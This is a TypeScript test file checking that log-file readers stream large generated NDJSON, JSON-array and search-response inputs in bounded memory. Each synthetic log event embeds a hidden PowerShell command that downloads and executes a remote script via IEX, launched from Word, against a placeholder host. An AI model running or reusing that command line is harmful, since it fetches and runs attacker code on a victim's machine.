// A reader must stream: memory stays flat whatever the input size. Inputs of a few hundred MB are
// generated on the fly (never materialized) and fed through the readers while the heap is sampled.

import { Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { readerForStream } from './inputs.js';

const CHUNK = 1 << 20;
const LIMIT = 150 * 1024 * 1024;

function event(k: number): string {
  return JSON.stringify({
    '@timestamp': '2026-01-01T00:00:00.000Z',
    'host.name': `host-${k % 50}`,
    'user.name': `user${k % 300}`,
    'process.name': 'powershell.exe',
    'process.command_line': `powershell.exe -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://x/${k}')"`,
    'process.parent.name': 'winword.exe',
    seq: k,
  });
}

function hit(k: number): string {
  return `{"_index":"logs","_id":"${k}","_source":${event(k)}}`;
}

interface Shape {
  head: string;
  sep: string;
  tail: string;
  item: (k: number) => string;
  /** Insert a 64 MiB line (never to be buffered) once this many bytes are produced. */
  giantAt?: number;
}

/** About `total` bytes of `head item sep item … tail`, in ~1 MiB chunks, generated lazily. */
function* generate(total: number, shape: Shape, count: { items: number }): Generator<Buffer> {
  let produced = 0;
  let k = 0;
  let giantAt = shape.giantAt ?? -1;
  let pending = shape.head;
  while (produced < total) {
    const parts: string[] = [pending];
    let size = pending.length;
    pending = '';
    while (size < CHUNK) {
      const e = (k > 0 ? shape.sep : '') + shape.item(k);
      parts.push(e);
      size += e.length;
      k++;
    }
    produced += size;
    count.items = k;
    yield Buffer.from(parts.join(''));
    if (giantAt >= 0 && produced >= giantAt) {
      yield Buffer.from(`${shape.sep}{"x":"`);
      const a = Buffer.alloc(CHUNK, 0x61);
      for (let i = 0; i < 64; i++) yield a;
      yield Buffer.from('"}');
      giantAt = -1;
    }
  }
  yield Buffer.from(shape.tail);
}

async function drain(stream: Readable): Promise<{ records: number; issues: string[]; maxGrowth: number }> {
  const before = process.memoryUsage();
  const base = before.heapUsed + before.arrayBuffers;
  let maxGrowth = 0;
  let records = 0;
  const issues: string[] = [];
  let n = 0;
  const reader = await readerForStream('gen', stream, { maxLineBytes: 8 * 1024 * 1024 });
  for await (const b of reader.batches()) {
    records += b.records.length;
    for (const i of b.issues) issues.push(i.code);
    if ((++n & 15) === 0) {
      const m = process.memoryUsage();
      maxGrowth = Math.max(maxGrowth, m.heapUsed + m.arrayBuffers - base);
    }
  }
  return { records, issues, maxGrowth };
}

const SIZE = 64 * CHUNK;

describe('bounded memory', () => {
  it('streams 64 MiB of NDJSON, with a 64 MiB line inside, in bounded memory', async () => {
    const count = { items: 0 };
    const r = await drain(Readable.from(generate(SIZE, { head: '', sep: '\n', tail: '\n', item: event, giantAt: SIZE / 2 }, count)));
    expect(r.records).toBe(count.items);
    expect(r.records).toBeGreaterThan(200_000);
    expect(r.issues).toEqual(['OS_READ_LINE_TOO_LONG']);
    expect(r.maxGrowth).toBeLessThan(LIMIT);
  });

  it('streams a 64 MiB JSON array in bounded memory', async () => {
    const count = { items: 0 };
    const r = await drain(Readable.from(generate(SIZE, { head: '[\n', sep: ',\n', tail: '\n]\n', item: event }, count)));
    expect(r.records).toBe(count.items);
    expect(r.records).toBeGreaterThan(200_000);
    expect(r.issues).toEqual([]);
    expect(r.maxGrowth).toBeLessThan(LIMIT);
  });

  it('streams a 64 MiB one-line search response in bounded memory', async () => {
    const head = '{"took":12,"timed_out":false,"_shards":{"total":1},"hits":{"total":{"value":1},"hits":[';
    const count = { items: 0 };
    const r = await drain(Readable.from(generate(SIZE, { head, sep: ',', tail: ']}}', item: hit }, count)));
    expect(r.records).toBe(count.items);
    expect(r.records).toBeGreaterThan(150_000);
    expect(r.issues).toEqual([]);
    expect(r.maxGrowth).toBeLessThan(LIMIT);
  });
});
